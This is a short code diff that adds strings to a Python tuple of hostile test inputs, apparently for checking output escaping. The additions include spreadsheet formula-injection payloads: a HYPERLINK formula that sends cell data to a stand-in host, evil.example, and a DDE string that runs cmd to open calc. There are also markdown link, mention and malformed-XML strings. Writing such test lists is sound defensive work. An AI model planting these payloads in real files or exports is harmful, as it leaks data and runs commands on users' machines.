@@ -28,6 +28,12 @@ HOSTILE = (
     "]]></style></details></main>'''\"\"\"",
     "A" * 5000,
     "e" + "\u0301" * 40,
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    " \t@SUM(1+1)*cmd|' /C calc'!A0",
+    "＝1＋1;-2+3;\t=4",
+    "[x](http://evil.example) ![y](http://evil.example/z.png) @admin #1 !2 GH-3 www.evil.example a@evil.example",
+    "| a | b |\n| - | - |\n# head\n- item\n```\n<!-- -->\n1. one ` `` &lt;b&gt; \\| \\` $x$ :bomb: ~~a~~ **b** __c__",
+    "]]>&amp;&#65;<?xml version='1.0'?><!DOCTYPE x>\x00\x08\ufffe\uffff\udcff",
 )
 
 
